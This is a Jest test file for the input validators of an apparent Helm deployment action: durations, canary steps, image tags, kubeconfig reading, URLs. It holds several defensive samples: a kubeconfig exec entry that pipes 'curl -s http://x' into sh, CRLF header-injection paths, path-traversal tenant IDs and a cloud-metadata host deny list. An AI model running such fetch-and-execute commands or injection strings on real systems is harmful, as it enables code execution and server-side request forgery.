import { describe, expect, it } from '@jest/globals';
import { classifyChart } from '../../src/inputs/chart-source.js';
import { parseEnvLines } from '../../src/inputs/env-lines.js';
import { parseImageRepository, parseImageTag } from '../../src/inputs/image.js';
import { formatKeyPath, parseKeyPath } from '../../src/inputs/key-path.js';
import { readKubeconfig } from '../../src/inputs/kubeconfig.js';
import { kubeconfigYaml, STRICT } from '../kubeconfig/fixture.js';
import { parseNamespace, parseReleaseName } from '../../src/inputs/names.js';
import {
  parseBoolean,
  parseChoice,
  parseCidr,
  parseDuration,
  parseLatency,
  parsePercent,
  parseSteps,
  parseToolVersion,
  splitList,
} from '../../src/inputs/scalars.js';
import { parseSetLines } from '../../src/inputs/set-lines.js';
import { plainHttpProblem } from '../../src/inputs/transport.js';
import { isMetadataHost, parseSmokeTestPath, parseSmokeTestUrl } from '../../src/inputs/smoke-test-target.js';
import { parseHttpUrl, parseTenantId } from '../../src/inputs/scalars.js';

describe('scalar parsers', () => {
  it('accepts only true and false as booleans', () => {
    expect(parseBoolean('true')).toBe(true);
    expect(parseBoolean('false')).toBe(false);
    for (const bad of ['True', 'yes', '1', 'ture']) expect(() => parseBoolean(bad)).toThrow(/is not a boolean/);
  });

  it.each([
    ['10m', 600],
    ['90s', 90],
    ['1h', 3600],
    ['1h30m', 5400],
    ['45', 45],
  ])('reads the duration %s as %d seconds', (raw, seconds) => expect(parseDuration(raw)).toBe(seconds));

  it('refuses malformed and zero durations unless zero is allowed', () => {
    for (const bad of ['10 minutes', 'm', '1.5h', '-5']) expect(() => parseDuration(bad)).toThrow(/is not a duration/);
    expect(() => parseDuration('0s')).toThrow(/positive/);
    expect(parseDuration('0', { allowZero: true })).toBe(0);
  });

  const clouds = ['AzureCloud', 'AzureUSGovernment', 'AzureChinaCloud'] as const;
  it.each([
    ['AzureCloud', false, 'AzureCloud'],
    ['azurecloud', true, 'AzureCloud'],
    ['AZUREUSGOVERNMENT', true, 'AzureUSGovernment'],
    ['azurechinacloud', true, 'AzureChinaCloud'],
  ])('reads the choice %s (ignoring case: %s) as %s', (raw, ignoreCase, canonical) =>
    expect(parseChoice(raw, clouds, { ignoreCase })).toBe(canonical),
  );

  it('refuses a choice in another case unless told to ignore case, and any unknown one', () => {
    expect(() => parseChoice('azurecloud', clouds)).toThrow(
      '"azurecloud" is not one of `AzureCloud`, `AzureUSGovernment`, `AzureChinaCloud`.',
    );
    expect(() => parseChoice('AzureGermanCloud', clouds, { ignoreCase: true })).toThrow(/is not one of/);
  });

  it('splits lists on newlines and commas', () => {
    expect(splitList('a, b\nc,,\n d ')).toEqual(['a', 'b', 'c', 'd']);
  });

  it('checks tool versions and CIDR ranges', () => {
    expect(parseToolVersion('v4.1.4')).toBe('4.1.4');
    expect(parseToolVersion('3.18')).toBe('3.18');
    expect(() => parseToolVersion('four')).toThrow(/is not a version/);
    expect(parseCidr('10.0.0.0/8')).toBe('10.0.0.0/8');
    expect(parseCidr('2001:db8::/32')).toBe('2001:db8::/32');
    for (const bad of ['10.0.0.0/33', '300.1.1.1', 'example.com']) expect(() => parseCidr(bad)).toThrow(/IP range/);
  });

  it('holds release names to 53 characters and a leading letter', () => {
    expect(parseReleaseName('portkey-ai')).toBe('portkey-ai');
    expect(() => parseReleaseName('Portkey_AI')).toThrow(
      '"Portkey_AI" is not a valid release name: use lower-case letters, digits and \'-\', starting with a letter, at most 53 characters.',
    );
    expect(() => parseReleaseName('a'.repeat(54))).toThrow(/release name/);
    expect(() => parseReleaseName('1gateway')).toThrow(/release name/);
    expect(parseNamespace('1team')).toBe('1team');
    expect(() => parseNamespace('n'.repeat(64))).toThrow(/namespace/);
  });
});

describe('the canary’s inputs', () => {
  it.each([
    ['10,50', [10, 50]],
    ['5%, 25%, 75%', [5, 25, 75]],
    ['10\n50', [10, 50]],
    ['1,99', [1, 99]],
  ])('canary-steps %j', (raw, steps) => expect(parseSteps(raw)).toEqual(steps));
  it.each([
    ['0,50', /"0" is not a share from 1 to 99/],
    ['10,100', /"100" is not a share from 1 to 99/],
    ['50,10', /does not go up/],
    ['10,10', /does not go up/],
    ['ten', /"ten" is not a share/],
  ])('refuses canary-steps %j', (raw, message) => expect(() => parseSteps(raw)).toThrow(message));

  it.each([
    ['5%', 0.05],
    ['0%', 0],
    ['0.5%', 0.005],
    ['100%', 1],
  ])('a share %j', (raw, ratio) => expect(parsePercent(raw)).toBe(ratio));
  it.each(['5', '101%', '-1%', '5 %'])('refuses the share %j', (raw) =>
    expect(() => parsePercent(raw)).toThrow(/is not a share like `5%`/),
  );

  it.each([
    ['500ms', 500],
    ['2s', 2000],
    ['1.5s', 1500],
  ])('a latency %j', (raw, ms) => expect(parseLatency(raw)).toBe(ms));
  it.each(['500', '0ms', '2m', 'fast'])('refuses the latency %j', (raw) =>
    expect(() => parseLatency(raw)).toThrow(/is not a latency: write it like 500ms or 2s/),
  );
});

describe('what the smoke test may ask for', () => {
  it.each(['/v1/health', '/v1/health/', '/', '/healthz', '/v1/a%41b', "/v1/a:b@c;d=e,f+g!h$i&j'k(l)m*n~o_p.q-r"])(
    'takes the path %s as it is',
    (raw) => expect(parseSmokeTestPath(raw)).toBe(raw),
  );

  it.each(['/v1/%0d%0aX-Injected:%201', '/v1/%00', '/v1/a%0Ab', '/%7f'])(
    'refuses %s: an escaped control character the proxy would decode into the request',
    (raw) => expect(() => parseSmokeTestPath(raw)).toThrow(/escaped control character/),
  );

  it('takes gateway URLs, private ones included', () => {
    for (const raw of ['https://gw.example.com', 'http://10.0.0.5:8787', 'https://[2001:db8::1]', 'http://127.0.0.1:8'])
      expect(parseSmokeTestUrl(raw)).toBe(raw);
  });

  it.each([
    ['169.254.169.254', true],
    ['169.254.0.1', true],
    ['[fe80::a:b]', true],
    ['[::ffff:a9fe:a9fe]', true],
    ['[fd00:ec2::254]', true],
    ['metadata.google.internal', true],
    ['metadata.azure.internal.', true],
    ['168.63.129.16', true],
    ['10.0.0.5', false],
    ['[::1]', false],
    ['gateway.example.com', false],
  ])('tells whether %s is a metadata or link-local host (%s)', (host, expected) =>
    expect(isMetadataHost(host)).toBe(expected),
  );

  it('takes a tenant as a GUID or a domain', () => {
    expect(parseTenantId('66666666-7777-8888-9999-000000000000')).toBe('66666666-7777-8888-9999-000000000000');
    expect(parseTenantId('contoso.onmicrosoft.com')).toBe('contoso.onmicrosoft.com');
    for (const bad of ['../x', 'contoso', 'a.b/c', 'a..b', '%2e%2e'])
      expect(() => parseTenantId(bad)).toThrow(/tenant/);
  });
});

describe('KEY=VALUE lines', () => {
  it('keeps values verbatim after the first =, skipping blanks and comments', () => {
    expect(parseEnvLines('A=1\n\n# note\nB = x=y \nC=')).toEqual({ values: { A: '1', B: 'x=y', C: '' }, problems: [] });
  });

  it('reports bad lines by number without quoting their value', () => {
    const { problems } = parseEnvLines('GOOD=1\nhunter2\n9LIVES=x\nBAD-NAME=x');
    expect(problems).toEqual([
      "line 2 has no '=': write KEY=VALUE, one per line.",
      'line 3: "9LIVES" is not a valid variable name: use letters, digits and \'_\', not starting with a digit.',
      'line 4: "BAD-NAME" is not a valid variable name: use letters, digits and \'_\', not starting with a digit.',
    ]);
    expect(problems.join()).not.toContain('hunter2');
  });
});

describe('set lines and key paths', () => {
  it('parses escaped dots and list indexes, and formats them back', () => {
    const path = parseKeyPath('service.annotations.service\\.beta\\.kubernetes\\.io/azure-pip-name');
    expect(path).toEqual(['service', 'annotations', 'service.beta.kubernetes.io/azure-pip-name']);
    expect(parseKeyPath('imageCredentials[0].username')).toEqual(['imageCredentials', 0, 'username']);
    expect(parseKeyPath('a[1][2]')).toEqual(['a', 1, 2]);
    for (const raw of ['a.b\\.c[0].d', 'x[3]']) expect(formatKeyPath(parseKeyPath(raw))).toBe(raw);
    for (const bad of ['a..b', '.a', 'a.', '[0]', 'a[x]', 'a[0]b']) expect(() => parseKeyPath(bad)).toThrow();
  });

  it('types values like helm --set, or as asked', () => {
    const { lines, problems } = parseSetLines(
      'a=8787\nb=true\nc=null\nd=0123\ne=hello\nf:string=8787\ng:json={"x":[1,"2"]}\nh=1.5\ni=',
    );
    expect(problems).toEqual([]);
    expect(lines.map((line) => line.value)).toEqual([
      8787,
      true,
      null,
      '0123',
      'hello',
      '8787',
      { x: [1, '2'] },
      1.5,
      '',
    ]);
    expect(lines[5]).toMatchObject({ path: ['f'], type: 'string', raw: '8787' });
  });

  it('reports bad lines without quoting JSON values', () => {
    const { problems } = parseSetLines('ok=1\nno-equals\nx:json={secretvalue\na..b=1');
    expect(problems).toEqual([
      "line 2: no '=' found: write path=value, path:string=value or path:json=value.",
      'line 3: the value of x:json is not valid JSON.',
      'line 4: "a..b" has an empty key: write keys like a.b\\.c[0].d.',
    ]);
  });
});

describe('chart source', () => {
  const folders = new Set(['./charts/gateway', 'vendored']);
  const isDirectory = (path: string) => folders.has(path);
  it('tells OCI, local and repository charts apart', () => {
    expect(classifyChart('oci://registry.example/charts/gateway', '', isDirectory)).toEqual({
      kind: 'oci',
      reference: 'oci://registry.example/charts/gateway',
    });
    expect(classifyChart('./charts/gateway', '', isDirectory)).toEqual({ kind: 'local', path: './charts/gateway' });
    expect(classifyChart('vendored', 'https://r', isDirectory)).toEqual({ kind: 'local', path: 'vendored' });
    expect(classifyChart('gateway', 'https://r', isDirectory)).toEqual({
      kind: 'repository',
      repositoryUrl: 'https://r',
      name: 'gateway',
    });
    expect(() => classifyChart('../missing', '', isDirectory)).toThrow('no chart folder at "../missing".');
    expect(() => classifyChart('portkey-ai/gateway', 'https://r', isDirectory)).toThrow(/repository alias/);
  });
});

describe('kubeconfig input', () => {
  const kubeconfig = kubeconfigYaml('token: tok-123');
  it('takes content or a path, normalises it and lists its credentials for masking', () => {
    const read = readKubeconfig(kubeconfig, () => '', STRICT);
    expect(read.problems).toEqual([]);
    expect(read.secrets).toEqual([kubeconfig, 'tok-123']);
    expect(JSON.parse(read.content)).toMatchObject({
      'current-context': 'ci',
      users: [{ name: 'ci', user: { token: 'tok-123' } }],
    });
    expect(readKubeconfig('/runner/kube', () => kubeconfig, STRICT).content).toBe(read.content);
    expect(() =>
      readKubeconfig(
        '/missing',
        () => {
          throw new Error('ENOENT');
        },
        STRICT,
      ),
    ).toThrow(/nor the path of a file the action may read/);
    expect(readKubeconfig('/file', () => 'just text', STRICT).problems).toEqual([
      'is not a kubeconfig (YAML with clusters, contexts and users).',
    ]);
  });

  it('resolves relative file paths against the folder of the file it read, or the working directory', () => {
    const withFiles = kubeconfigYaml('{tokenFile: token, client-certificate: ../certs/ci.crt, client-key: /k/ci.key}');
    const allowed = { ...STRICT, allowLocalFiles: true };
    const user = (content: string) =>
      (JSON.parse(content) as { users: { user: Record<string, string> }[] }).users[0].user;
    expect(user(readKubeconfig('conf/kubeconfig', () => withFiles, allowed, '/work').content)).toEqual({
      tokenFile: '/work/conf/token',
      'client-certificate': '/work/certs/ci.crt',
      'client-key': '/k/ci.key',
    });
    expect(user(readKubeconfig(withFiles, () => '', allowed, '/work').content).tokenFile).toBe('/work/token');
  });

  it('names every program an exec or auth-provider user would run, without the values of secret flags', () => {
    const cases = [
      [
        'exec: {command: /bin/sh, args: [-c, "curl -s http://x | sh"]}',
        'user "ci" runs `/bin/sh -c curl -s http://x | sh` (exec)',
      ],
      [
        'exec: {command: kubelogin, args: [get-token, --client-secret, s3cr3t, --token=t0k3n, --server-id, abc]}',
        'user "ci" runs `kubelogin get-token --client-secret *** --token=*** --server-id abc` (exec)',
      ],
      [
        "auth-provider: {name: gcp, config: {cmd-path: /usr/bin/gcloud, cmd-args: 'config config-helper --token=gke-tok-9'}}",
        'user "ci" uses the auth-provider `gcp` and runs `/usr/bin/gcloud config config-helper --token=***`',
      ],
    ];
    const secrets = cases.flatMap(([user]) => readKubeconfig(kubeconfigYaml(user), () => '', STRICT).secrets);
    expect(secrets).toEqual(expect.arrayContaining(['s3cr3t', 't0k3n', 'gke-tok-9']));
    for (const [user, program] of cases) {
      const [problem] = readKubeconfig(kubeconfigYaml(user), () => '', STRICT).problems;
      expect(problem.startsWith(`${program} to get its credentials`)).toBe(true);
      expect(
        readKubeconfig(kubeconfigYaml(user), () => '', { ...STRICT, allowCredentialPrograms: true }).problems,
      ).toEqual([]);
    }
  });
});

describe('image references', () => {
  it.each([
    'portkeyai/gateway',
    'gateway',
    'myregistry.azurecr.io/portkey/gateway',
    'localhost:5000/gateway',
    'registry.example.com:8443/a/b-c/d__e',
  ])('accepts the repository %s', (repository) => expect(parseImageRepository(repository)).toBe(repository));

  it.each([
    ['UPPER/Case Repo', '"UPPER" is not a path component'],
    ['portkeyai/gateway:1.2', 'the tag does not belong here'],
    ['portkeyai/gateway@sha256:abc', 'a digest does not belong here'],
    ['https://docker.io/portkeyai/gateway', 'leave out the scheme'],
    ['portkeyai//gateway', '"" is not a path component'],
    ['bad_host.example.com/gateway', '"bad_host.example.com" is not a registry host'],
  ])('refuses the repository %s', (repository, why) => expect(() => parseImageRepository(repository)).toThrow(why));

  it('takes tags of the OCI grammar only', () => {
    expect(parseImageTag('2.13.0')).toBe('2.13.0');
    expect(parseImageTag('v1.2.3-rc.1_b')).toBe('v1.2.3-rc.1_b');
    for (const tag of ['bad tag!', '.hidden', '-dash', 'a/b', 't'.repeat(129)]) {
      expect(() => parseImageTag(tag)).toThrow('is not an image tag');
    }
  });
});

describe('plain HTTP', () => {
  it.each([
    ['http://mirror.example.com/helm', 'http://mirror.example.com is plain HTTP to a host other than this machine'],
    ['http://10.0.0.5:8080', 'http://10.0.0.5:8080 is plain HTTP to a host other than this machine'],
    ['https://mirror.example.com', undefined],
    ['http://127.0.0.1:8080', undefined],
    ['http://127.8.9.10', undefined],
    ['http://localhost:3000', undefined],
    ['http://gateway.localhost', undefined],
    ['http://[::1]:8787', undefined],
  ])('%s: %s', (url, problem) => expect(plainHttpProblem(url)).toBe(problem));
});

describe('URL inputs', () => {
  it('refuses credentials in a URL without quoting them: helm would get them on its command line', () => {
    for (const raw of ['https://u:p4ss@charts.example.com', 'https://token@get.example.com', 'http://:pw@127.0.0.1'])
      expect(() => parseHttpUrl(raw)).toThrow(
        /^carries credentials \(`user:password@`\).*: give the URL without them\.$/,
      );
    expect(() => parseHttpUrl('https://u:p4ss@charts.example.com')).not.toThrow(/p4ss/);
    expect(parseHttpUrl('https://charts.example.com/helm/')).toBe('https://charts.example.com/helm');
  });
});
